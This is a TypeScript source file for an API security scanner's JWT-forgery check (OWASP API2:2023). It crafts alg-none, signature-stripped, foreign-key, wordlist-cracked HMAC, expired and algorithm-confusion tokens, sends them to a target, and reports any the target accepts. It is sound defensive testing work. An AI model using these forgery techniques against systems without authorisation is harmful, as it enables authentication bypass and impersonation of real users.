// API2:2023: forged bearer tokens are accepted. From a real token of one identity the check builds
// what an attacker can build without the key: `alg: none`, a stripped signature, a token signed by
// another key, HS256 signed with the server's public key (algorithm confusion, CVE-2015-9235 class),
// and, when the HMAC secret is in a small offline wordlist, an expired token and a re-signed one.
// Proof: the forged token gets the same answer as the real one on an operation that refuses
// anonymous callers.
import { createPublicKey } from 'node:crypto';
import { location, requiresAuth } from '../engine/classify.js';
import { ok, sameContent } from '../engine/compare.js';
import {
  decodeJwt,
  encodeUnsigned,
  hmacMatches,
  signHmac,
  signWithForeignKey,
  WEAK_SECRETS,
  type DecodedJwt,
} from '../engine/jwt.js';
import type { CheckContext, ScanCheck, ScanResponse } from '../types.js';

interface Forgery {
  readonly cause: string;
  readonly token: string;
  readonly what: string;
}

export const jwtForgery: ScanCheck = {
  id: 'scan:api2:jwt-forgery',
  owasp: 'API2:2023',
  cwe: 'CWE-347',
  severity: 'critical',
  confidence: 'certain',
  title: 'Forged or invalid tokens are accepted',
  remediation:
    "Verify every token with a pinned algorithm list (never trust the token's `alg`), a strong key (at least 256 random bits for HMAC, or an asymmetric key such as Ed25519), and check `exp`, `nbf`, `iss` and `aud` (RFC 8725).",
  intrusive: false,
  async run(ctx) {
    for (const identity of ctx.identities.all) {
      const token = await identity.token?.();
      const decoded = token ? decodeJwt(token) : undefined;
      if (!token || !decoded) continue;
      const probe = ctx.model.operations.find(
        (op) =>
          op.method === 'get' &&
          !op.path.includes('{') &&
          requiresAuth(op, ctx.model) &&
          ok(ctx.baselines.get(`${identity.name} ${op.key}`)),
      );
      if (!probe) continue;
      const request = ctx.builder.build(probe, {});
      if (!request) continue;
      const send = (bearer: string): Promise<ScanResponse> =>
        ctx.http.send({
          ...request,
          identity: null,
          headers: { authorization: `Bearer ${bearer}` },
        });
      const control = await send(token);
      const anonymous = await ctx.http.send({ ...request, identity: null });
      const garbage = await send(`${token.slice(0, -4)}AAAA`);
      // Without a working token and a refused anonymous call there is nothing to compare with.
      if (!ok(control) || ok(anonymous) || ok(garbage)) continue;
      for (const forgery of await forgeries(ctx, decoded)) {
        const attack = await send(forgery.token);
        if (!ok(attack) || !sameContent(control, attack)) continue;
        const replay = await send(forgery.token);
        if (!ok(replay)) continue;
        ctx.report({
          location: location(probe, attack.exchange.request.url),
          cause: forgery.cause,
          message: `A token with ${forgery.what} was accepted on ${probe.key} as '${identity.name}'.`,
          exchanges: [anonymous, attack],
          detail: `${forgery.what}. Forged header: ${JSON.stringify(decodeJwt(forgery.token)?.header ?? { alg: 'none' })}. Anonymous call answered ${anonymous.status}; a token with a corrupted signature answered ${garbage.status}; the forged token answered ${attack.status} with the same content as the real token.`,
        });
      }
      return; // one identity's token is enough: every identity shares the verifier
    }
  },
};

async function forgeries(ctx: CheckContext, jwt: DecodedJwt): Promise<Forgery[]> {
  const { header, payload } = jwt;
  const out: Forgery[] = [];
  for (const alg of ['none', 'None', 'NONE']) {
    out.push({
      cause: 'alg-none',
      token: `${encodeUnsigned({ ...header, alg }, payload)}.`,
      what: `\`alg: ${alg}\` and no signature`,
    });
  }
  out.push({
    cause: 'stripped-signature',
    token: `${jwt.signingInput}.`,
    what: 'its signature stripped',
  });
  out.push({
    cause: 'foreign-key',
    token: signWithForeignKey(header, payload),
    what: 'a signature by a key the server never issued',
  });
  const secret = WEAK_SECRETS.find((word) => hmacMatches(jwt, word));
  if (secret !== undefined) {
    const now = Math.floor(Date.now() / 1000);
    out.push({
      cause: 'weak-hmac-secret',
      token: signHmac(header, { ...payload, iat: now, jti: `bulwark-${now}` }, secret),
      what: `an HMAC secret found offline in a ${WEAK_SECRETS.length}-word list (it starts with '${secret.slice(0, 2)}')`,
    });
    out.push({
      cause: 'expired-accepted',
      token: signHmac(header, { ...payload, iat: now - 7200, exp: now - 3600 }, secret),
      what: '`exp` one hour in the past (re-signed with the cracked secret)',
    });
  } else if (out.length > 0) {
    out.push({
      cause: 'expired-accepted',
      token: `${encodeUnsigned({ ...header, alg: 'none' }, { ...payload, exp: Math.floor(Date.now() / 1000) - 3600 })}.`,
      what: '`exp` one hour in the past (unsigned)',
    });
  }
  const confusion = await algorithmConfusion(ctx, jwt);
  if (confusion) out.push(confusion);
  return out;
}

// RS256/ES256 tokens verified by a library that also accepts HS256 with the public key as the HMAC
// secret: anyone holding the public key can mint tokens (CVE-2015-9235, RFC 8725 §2.1).
async function algorithmConfusion(
  ctx: CheckContext,
  jwt: DecodedJwt,
): Promise<Forgery | undefined> {
  const alg = String(jwt.header['alg']);
  if (!/^(RS|PS|ES)\d+$/.test(alg)) return undefined;
  let jwks: ScanResponse | undefined;
  for (const path of [
    '/.well-known/jwks.json',
    '/jwks.json',
    '/.well-known/openid-configuration/jwks',
  ]) {
    const response = await ctx.http
      .send({ method: 'GET', url: new URL(path, ctx.settings.target).href })
      .catch(() => undefined);
    if (ok(response)) {
      jwks = response;
      break;
    }
  }
  const keys = (jwks?.json as { keys?: object[] } | undefined)?.keys ?? [];
  const key = keys.find((k) => (k as { kid?: unknown }).kid === jwt.header['kid']) ?? keys[0];
  if (!key) return undefined;
  try {
    const pem = createPublicKey({ key: key as never, format: 'jwk' }).export({
      type: 'spki',
      format: 'pem',
    });
    return {
      cause: 'algorithm-confusion',
      token: signHmac({ ...jwt.header, alg: 'HS256' }, jwt.payload, String(pem)),
      what: 'HS256 signed with the public key from the JWKS (algorithm confusion)',
    };
  } catch {
    return undefined;
  }
}
